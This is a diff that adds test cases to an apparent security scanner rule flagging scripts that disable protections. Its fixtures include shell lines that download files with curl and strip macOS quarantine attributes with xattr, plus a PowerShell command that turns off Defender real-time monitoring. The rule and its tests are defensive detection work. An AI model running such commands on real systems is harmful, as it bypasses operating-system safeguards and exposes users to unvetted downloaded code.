@@ -17,6 +17,16 @@ testRule(securityToolDisable, {
       files: sh('curl -fsSLo /tmp/helper https://dl.example/helper\nxattr -c /tmp/helper'),
       errors: [{ messageId: 'disableDownloaded', severity: 'high' }],
     },
+    {
+      name: 'quarantine cleared on a brew-installed program, in a skill that downloads a data file elsewhere, is medium',
+      files: sh('curl -fsSL -o report.txt https://api.example.com/files/1\nbrew install acme/tap/acme\nxattr -d com.apple.quarantine "$(brew --prefix)/bin/acme"'),
+      errors: [{ messageId: 'disable', severity: 'medium' }],
+    },
+    {
+      name: 'quarantine cleared on the app a downloaded archive unpacks beside',
+      files: sh('curl -fsSL -o ~/Apps/tool.zip https://dl.example/tool.zip\nunzip ~/Apps/tool.zip -d ~/Apps\nxattr -cr ~/Apps/Tool.app'),
+      errors: [{ messageId: 'disableDownloaded', severity: 'high' }],
+    },
     { name: 'defender off', files: ps('Set-MpPreference -DisableRealtimeMonitoring $true'), errors: [{ messageId: 'disable' }] },
   ],
 });
